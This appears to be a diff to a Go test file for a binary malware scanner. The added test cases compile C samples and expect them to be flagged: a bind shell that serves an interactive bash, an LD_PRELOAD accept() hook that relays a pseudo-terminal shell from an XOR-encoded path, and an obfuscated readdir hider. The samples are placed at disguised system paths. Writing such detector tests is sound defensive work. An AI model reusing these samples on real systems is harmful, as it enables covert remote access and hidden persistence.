@@ -1,9 +1,11 @@
 package binary
 
 import (
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -83,6 +85,75 @@ struct dirent *readdir(DIR *d) {
 	return e;
 }
 `
+	// A bind shell: accept, then the connection as the shell's streams.
+	cStaticBind = `#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+static void serve(int c) { dup2(c, 0); dup2(c, 1); dup2(c, 2); execl("/bin/bash", "bash", "-i", (char *)0); }
+int main(void) {
+	struct sockaddr_in sa = {0};
+	sa.sin_family = AF_INET; sa.sin_port = htons(31337);
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	bind(s, (struct sockaddr *)&sa, sizeof sa); listen(s, 1);
+	for (;;) { int c = accept(s, 0, 0); if (fork() == 0) serve(c); close(c); }
+}
+`
+	// A client that connects and runs a program, without putting the socket on its streams.
+	cStaticClient = `#include <arpa/inet.h>
+#include <sys/socket.h>
+#include <unistd.h>
+int main(void) {
+	struct sockaddr_in sa = {0};
+	sa.sin_family = AF_INET; sa.sin_port = htons(80);
+	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) write(s, "ping\n", 5);
+	char *argv[] = {"/bin/sh", "-c", "logger done", 0};
+	return execve("/bin/sh", argv, 0);
+}
+`
+	// A preload backdoor: a hooked accept relays a shell through a pseudo-terminal, and the
+	// shell's path is kept XOR-encoded (0x3c).
+	cPtyBackdoor = `#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <pty.h>
+#include <sys/select.h>
+#include <sys/socket.h>
+#include <unistd.h>
+static char sh[] = {0x13,0x5e,0x55,0x52,0x13,0x4f,0x54,0};
+static int (*real_accept)(int, struct sockaddr *, socklen_t *);
+int accept(int fd, struct sockaddr *a, socklen_t *l) {
+	if (!real_accept) real_accept = dlsym(RTLD_NEXT, "accept");
+	int c = real_accept(fd, a, l), pty;
+	char b[512];
+	if (c >= 0 && fork() == 0) {
+		if (forkpty(&pty, 0, 0, 0) == 0) { for (int i = 0; sh[i]; i++) sh[i] ^= 0x3c; execl(sh, sh, (char *)0); }
+		for (;;) { fd_set s; FD_ZERO(&s); FD_SET(c, &s); FD_SET(pty, &s); select(64, &s, 0, 0, 0);
+			int n; if (FD_ISSET(c, &s) && (n = read(c, b, sizeof b)) > 0) write(pty, b, n);
+			if (FD_ISSET(pty, &s) && (n = read(pty, b, sizeof b)) > 0) write(c, b, n); }
+	}
+	return c;
+}
+`
+	// A hider whose looked-up names are kept with a rolling three-byte key: no name in clear,
+	// none under a one-byte key.
+	cRollingHider = `#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <dirent.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+/* names kept with a rolling three-byte key */
+static unsigned char names[][16] = {
+  {'r'^0x11,'e'^0x22,'a'^0x33,'d'^0x11,'d'^0x22,'i'^0x33,'r'^0x11,0},
+  {'f'^0x11,'o'^0x22,'p'^0x33,'e'^0x11,'n'^0x22,0},
+  {'a'^0x11,'c'^0x22,'c'^0x33,'e'^0x11,'s'^0x22,'s'^0x33,0},
+};
+static void *real(int i) { char b[16]; unsigned char k[3] = {0x11,0x22,0x33}; int j; for (j = 0; names[i][j]; j++) b[j] = names[i][j] ^ k[j%3]; b[j] = 0; return dlsym(RTLD_NEXT, b); }
+struct dirent *readdir(DIR *d) { struct dirent *(*f)(DIR *) = real(0); struct dirent *e; do { e = f(d); } while (e && strstr(e->d_name, "kthr")); return e; }
+FILE *fopen(const char *p, const char *m) { FILE *(*f)(const char *, const char *) = real(1); return f(p, m); }
+int access(const char *p, int m) { int (*f)(const char *, int) = real(2); return f(p, m); }
+`
 	// An interposer of one file function, as a profiler or sandbox would be.
 	cInterposer = `#define _GNU_SOURCE
 #include <dlfcn.h>
@@ -156,6 +227,13 @@ func TestCompiledBehaviour(t *testing.T) {
 		{"go reverse shell with symbols", "go", goReverseShell, nil, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
 		{"go client", "go", goClean, nil, "/usr/local/bin/probe", ""},
 		{"static C reverse shell", "c", cStaticShell, []string{"-static", "-O2"}, "/usr/bin/netd", "STRATA-RS-021/high"},
+		{"stripped static C reverse shell", "c", cStaticShell, []string{"-static", "-O2", "-s"}, "/usr/bin/netd", "STRATA-RS-021/high"},
+		{"stripped static C bind shell", "c", cStaticBind, []string{"-static", "-O0", "-s"}, "/usr/sbin/.sshd", "STRATA-RS-021/high"},
+		{"stripped static C client", "c", cStaticClient, []string{"-static", "-O2", "-s"}, "/usr/bin/pinger", ""},
+		{"go reverse shell among many functions", "go", goReverseShell + manyFuncs(120), []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/agent", "STRATA-RS-021/high"},
+		{"go client among many functions", "go", goClean + manyFuncs(120), nil, "/usr/local/bin/probe", ""},
+		{"rolling-key hider", "c", cRollingHider, []string{"-shared", "-fPIC", "-O2"}, "/usr/lib/libkcache.so", "STRATA-LP-005/high"},
+		{"pty preload backdoor", "c", cPtyBackdoor, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libcache.so", "STRATA-LP-005/critical STRATA-LP-006/high"},
 		{"readdir hider", "c", cHider, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libhide.so", "STRATA-LP-005/high STRATA-LP-006/high"},
 		{"fopen interposer", "c", cInterposer, []string{"-shared", "-fPIC"}, "/usr/lib/libtrace.so", "STRATA-LP-005/low"},
 	}
@@ -195,6 +273,35 @@ func TestGoToolchainSilent(t *testing.T) {
 	}
 	if n == 0 {
 		t.Skip("no Go toolchain binaries found")
+	}
+}
+
+// manyFuncs is Go source for n functions of package main that the program calls, so that it
+// is no longer a small program: found by what its main package calls, not by its size.
+func manyFuncs(n int) string {
+	var b strings.Builder
+	b.WriteString("\nvar sink int\n\nfunc init() {\n")
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, "\tsink += helper%d(%d)\n", i, i)
+	}
+	b.WriteString("}\n")
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, "\n//go:noinline\nfunc helper%d(x int) int { return x*%d + x/7 }\n", i, i+3)
+	}
+	return b.String()
+}
+
+func TestExpandLoaderTokens(t *testing.T) {
+	got := expandLoaderTokens("/lib/libc.so.u.42/k.so.$PLATFORM")
+	if !slices.Contains(got, "/lib/libc.so.u.42/k.so.x86_64") || !slices.Contains(got, "/lib/libc.so.u.42/k.so.aarch64") {
+		t.Errorf("$PLATFORM: %v", got)
+	}
+	got = expandLoaderTokens("/usr/${LIB}/libx.so")
+	if !slices.Contains(got, "/usr/lib/x86_64-linux-gnu/libx.so") || !slices.Contains(got, "/usr/lib64/libx.so") {
+		t.Errorf("${LIB}: %v", got)
+	}
+	if got := expandLoaderTokens("/usr/lib/libm.so"); len(got) != 1 || got[0] != "/usr/lib/libm.so" {
+		t.Errorf("plain path: %v", got)
 	}
 }
 
